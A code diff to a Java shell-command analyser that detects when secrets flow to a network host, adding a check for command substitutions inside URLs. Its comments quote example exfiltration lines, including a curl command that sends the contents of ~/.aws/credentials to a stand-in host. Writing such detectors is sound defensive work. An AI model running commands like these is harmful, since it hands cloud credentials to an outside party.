@@ -247,7 +247,9 @@ final class ShellFacts {
             remember(c, r, written);
             // xargs curl 'https://x.example/?d={}': what the input holds becomes the arguments of a command that
             // names a host, and so goes to it.
-            boolean sendsItsArguments = c.has(dev.lighthouse.shell.Trait.ARGUMENTS_FROM_INPUT) && !r.hosts.isEmpty();
+            // curl "https://x.example/?k=$(cat ~/.aws/credentials)": a substitution inside a URL goes to its host too.
+            boolean sendsItsArguments =
+                    !r.hosts.isEmpty() && (c.has(dev.lighthouse.shell.Trait.ARGUMENTS_FROM_INPUT) || substitutedUrl(c));
             boolean fedSecret = upstreamLeaks(c, readings);
             if ((r.sends || sendsItsArguments)
                     && (secretInput
@@ -967,6 +969,17 @@ final class ShellFacts {
                 holdsSecrets.add(op.target().resolved());
             }
         }
+    }
+
+    /** An argument naming a URL with a command substitution in it ({@code $(…)} or backquotes). */
+    private static boolean substitutedUrl(Command c) {
+        for (Word w : c.args()) {
+            String v = w.value();
+            if (w.dynamic() && (v.contains("$(") || v.contains("`")) && v.contains("://")) {
+                return true;
+            }
+        }
+        return false;
     }
 
     private static boolean readsAny(CommandReader.Reading r, Set<String> paths) {
